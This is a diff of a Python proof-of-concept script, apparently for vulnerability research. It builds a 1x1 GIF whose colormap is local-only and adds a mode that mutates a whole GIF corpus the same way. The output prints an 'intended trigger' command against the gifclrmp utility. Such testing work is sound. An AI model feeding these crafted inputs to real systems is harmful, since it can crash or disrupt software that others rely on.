@@ -1,43 +1,32 @@
-
+#!/usr/bin/env python3
+import argparse
+import sys
 from pathlib import Path
 
+sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
+from poclib.gif import BW_COLORMAP, TRAILER, GifIndex, frame, header, local_only_edits, mutate_corpus
 
-def build_local_only_gif() -> bytes:
-    out = bytearray()
-    out += b"GIF89a"
-
-    # Logical Screen Descriptor: width=1, height=1
-    out += (1).to_bytes(2, "little")
-    out += (1).to_bytes(2, "little")
-
-    # Packed field: no global color table
-    out += b"\x00"
-
-    # Background color index, pixel aspect ratio
-    out += b"\x00\x00"
-
-    # Image Descriptor
-    out += b"\x2c"                  # image separator
-    out += b"\x00\x00"              # left
-    out += b"\x00\x00"              # top
-    out += b"\x01\x00"              # width = 1
-    out += b"\x01\x00"              # height = 1
 
-    # Packed field: local color table present, 2 entries
-    out += b"\x80"
-
-    # Local Color Table: black, white
-    out += b"\x00\x00\x00\xff\xff\xff"
-
-    # Image Data
-    out += b"\x02\x02\x4c\x01\x00"
-
-    # Trailer
-    out += b"\x3b"
-    return bytes(out)
+def build_local_only_gif() -> bytes:
+    # 1x1 GIF with a global table (black, white), then the table moved to
+    # the image: no global color table, 2-entry local color table
+    index = GifIndex(header(1, 1, BW_COLORMAP) + frame() + TRAILER)
+    return b"".join(index.splice(local_only_edits(index)))
 
 
 def main() -> int:
+    ap = argparse.ArgumentParser(description="gifclrmp local-only colormap PoC, or the same mutation over a GIF corpus.")
+    ap.add_argument("--corpus", nargs="+", metavar="PATH", help="GIF files or directories to make local-only")
+    ap.add_argument("--out-dir", default="mutants", help="--corpus: output directory")
+    ap.add_argument("--workers", type=int, default=None)
+    args = ap.parse_args()
+
+    if args.corpus:
+        rows = mutate_corpus(args.corpus, args.out_dir, local_only_edits, "_local", args.workers)
+        print(f"[+] wrote {sum(1 for r in rows if r['file'])} of {len(rows)} mutants to {args.out_dir}")
+        print(f"[+] intended trigger: ./gifclrmp -i 1 {args.out_dir}/<file>.gif > /dev/null")
+        return 0
+
     out_path = Path("local_only.gif")
     out_path.write_bytes(build_local_only_gif())
     print(f"[+] wrote {out_path}")